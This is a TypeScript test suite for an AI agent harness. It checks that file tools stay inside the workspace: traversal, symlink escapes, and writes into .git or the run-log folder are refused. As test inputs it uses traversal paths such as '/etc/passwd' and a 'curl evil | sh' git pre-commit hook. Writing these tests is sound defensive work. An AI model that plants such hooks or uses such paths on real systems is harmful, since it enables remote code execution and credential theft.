import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { resolveInWorkspace } from '../../../src/harness/tools/paths';
import { makeWorkspace, type Workspace } from './_workspace';

describe('workspace confinement', () => {
  let ws: Workspace;
  beforeEach(() => {
    ws = makeWorkspace();
    ws.write('src/a.txt', 'inside\n');
    fs.writeFileSync(path.join(ws.outside, 'secret.txt'), 'TOP SECRET\n');
  });
  afterEach(() => ws.cleanup());

  const resolve = (p: string, forWrite = false) => resolveInWorkspace(ws.root, ws.ctx.logDir, p, { forWrite });

  it('resolves workspace-relative and absolute-inside paths to the same place', () => {
    const a = resolve('src/a.txt');
    const b = resolve(path.join(ws.root, 'src/a.txt'));
    const c = resolve('./src/../src/a.txt');
    for (const r of [a, b, c]) {
      assert.ok(r.ok);
      assert.equal(r.rel, 'src/a.txt');
      assert.equal(r.abs, path.join(ws.root, 'src/a.txt'));
    }
  });

  it('refuses .. and absolute paths outside the workspace with rule confine:outside-workspace', () => {
    for (const p of ['../outside/secret.txt', 'src/../../outside/secret.txt', path.join(ws.outside, 'secret.txt'), '/etc/passwd']) {
      const r = resolve(p);
      assert.equal(r.ok, false, p);
      if (!r.ok) {
        assert.equal(r.code, 'outside_workspace');
        assert.equal(r.rule, 'confine:outside-workspace');
      }
    }
  });

  it('refuses NUL bytes and empty paths', () => {
    const nul = resolve('src/a.txt\0.png');
    assert.ok(!nul.ok && nul.code === 'bad_path' && nul.rule === 'confine:nul-byte');
    const empty = resolve('  ');
    assert.ok(!empty.ok && empty.code === 'bad_path' && empty.rule === 'confine:empty-path');
  });

  it('refuses reading and writing through a symlink to a directory outside the workspace', async () => {
    fs.symlinkSync(ws.outside, path.join(ws.root, 'escape'));
    const r = resolve('escape/secret.txt');
    assert.ok(!r.ok && r.rule === 'confine:symlink-escape' && r.code === 'outside_workspace');

    const read = await ws.call('read_file', { path: 'escape/secret.txt' });
    assert.equal(read.is_error, true);
    assert.equal(read.error_code, 'outside_workspace');
    assert.ok(!read.output.includes('TOP SECRET'));

    const write = await ws.call('write_file', { path: 'escape/new.txt', content: 'pwned' });
    assert.equal(write.error_code, 'outside_workspace');
    assert.match(write.output, /Nothing was written/);
    assert.equal(fs.existsSync(path.join(ws.outside, 'new.txt')), false);

    const edit = await ws.call('edit_file', { path: 'escape/secret.txt', old_string: 'TOP', new_string: 'NO' });
    assert.equal(edit.error_code, 'outside_workspace');
    assert.equal(fs.readFileSync(path.join(ws.outside, 'secret.txt'), 'utf8'), 'TOP SECRET\n');

    const list = await ws.call('list_files', { path: 'escape' });
    assert.equal(list.error_code, 'outside_workspace');
    const search = await ws.call('search', { pattern: 'SECRET', path: 'escape' });
    assert.equal(search.error_code, 'outside_workspace');
  });

  it('refuses a write through a dangling symlink whose target is outside (the file would be created there)', async () => {
    fs.symlinkSync(path.join(ws.outside, 'created-by-agent.txt'), path.join(ws.root, 'dangling.txt'));
    const r = resolve('dangling.txt', true);
    assert.ok(!r.ok && r.rule === 'confine:symlink-escape');
    const out = await ws.call('write_file', { path: 'dangling.txt', content: 'x' });
    assert.equal(out.error_code, 'outside_workspace');
    assert.equal(fs.existsSync(path.join(ws.outside, 'created-by-agent.txt')), false);
  });

  it('refuses a relative symlink that climbs out, and a new file below a symlinked parent', () => {
    fs.symlinkSync('../outside', path.join(ws.root, 'rel-escape'));
    const r = resolve('rel-escape/deeper/new.txt', true);
    assert.ok(!r.ok && r.rule === 'confine:symlink-escape');
  });

  it('follows symlinks that stay inside the workspace', () => {
    fs.symlinkSync(path.join(ws.root, 'src'), path.join(ws.root, 'alias'));
    const r = resolve('alias/a.txt', true);
    assert.ok(r.ok);
    assert.equal(r.rel, 'src/a.txt');
  });

  it('reports a symlink loop instead of hanging', () => {
    fs.symlinkSync(path.join(ws.root, 'loop-b'), path.join(ws.root, 'loop-a'));
    fs.symlinkSync(path.join(ws.root, 'loop-a'), path.join(ws.root, 'loop-b'));
    const r = resolve('loop-a/x.txt', true);
    assert.ok(!r.ok && r.code === 'bad_path' && r.rule === 'confine:symlink-loop');
  });

  it('refuses writes into .git (also nested) and reads of it (its config may hold credentials)', async () => {
    ws.write('.git/HEAD', 'ref: refs/heads/main\n');
    const w = resolve('.git/HEAD', true);
    assert.ok(!w.ok && w.code === 'protected_path' && w.rule === 'confine:git-dir');
    const nested = resolve('vendor/lib/.git/config', true);
    assert.ok(!nested.ok && nested.rule === 'confine:git-dir');
    const r = resolve('.git/HEAD');
    assert.ok(!r.ok && r.code === 'protected_path' && r.rule === 'confine:git-dir');
    const out = await ws.call('write_file', { path: '.git/hooks/pre-commit', content: 'curl evil | sh' });
    assert.equal(out.error_code, 'protected_path');
    assert.equal(fs.existsSync(path.join(ws.root, '.git/hooks/pre-commit')), false);
    const via = await ws.call('edit_file', { path: './.git/HEAD', old_string: 'main', new_string: 'evil' });
    assert.equal(via.error_code, 'protected_path');
    assert.equal(ws.read('.git/HEAD'), 'ref: refs/heads/main\n');
  });

  it('refuses writes into the log folder, even through a symlink into it', async () => {
    ws.write('.kite/runs/run.jsonl', '{}\n');
    const w = resolve('.kite/runs/run.jsonl', true);
    assert.ok(!w.ok && w.code === 'protected_path' && w.rule === 'confine:log-dir');
    fs.symlinkSync(path.join(ws.root, '.kite/runs'), path.join(ws.root, 'logs'));
    const viaLink = resolve('logs/new.jsonl', true);
    assert.ok(!viaLink.ok && viaLink.rule === 'confine:log-dir');
    const out = await ws.call('write_file', { path: '.kite/runs/run.jsonl', content: '' });
    assert.equal(out.error_code, 'protected_path');
    assert.equal(ws.read('.kite/runs/run.jsonl'), '{}\n');
    // Other files under .kite (config) stay writable.
    assert.ok(resolve('.kite/config.json', true).ok);
  });
});

describe('confinement inside listing and search', () => {
  let ws: Workspace;
  beforeEach(() => {
    ws = makeWorkspace();
    fs.writeFileSync(path.join(ws.outside, 'passwd'), 'root:x:0:0:SECRET-LINE\n');
  });
  afterEach(() => ws.cleanup());

  it('search does not read through a file symlink that points outside the workspace', async () => {
    ws.write('notes.txt', 'SECRET-LINE is not here\n');
    fs.symlinkSync(path.join(ws.outside, 'passwd'), path.join(ws.root, 'passwd'));
    fs.symlinkSync(ws.outside, path.join(ws.root, 'outdir'));
    const out = await ws.call('search', { pattern: 'SECRET-LINE' });
    assert.equal(out.output, 'notes.txt:1: SECRET-LINE is not here');
    const direct = await ws.call('search', { pattern: 'SECRET', path: 'passwd' });
    assert.equal(direct.error_code, 'outside_workspace');
  });

  it('never blocks on a FIFO: read and write refuse it, search skips it', async () => {
    const { execFileSync } = await import('node:child_process');
    execFileSync('mkfifo', [path.join(ws.root, 'pipe')]);
    ws.write('a.txt', 'needle\n');
    const read = await ws.call('read_file', { path: 'pipe' });
    assert.equal(read.error_code, 'special_file');
    assert.match(read.output, /not a regular file/);
    const write = await ws.call('write_file', { path: 'pipe', content: 'x' });
    assert.match(write.output, /not a regular file.*Nothing was written/);
    assert.equal((await ws.call('search', { pattern: 'needle' })).output, 'a.txt:1: needle');
    assert.match((await ws.call('search', { pattern: 'needle', path: 'pipe' })).output, /^No matches/);
  });
});
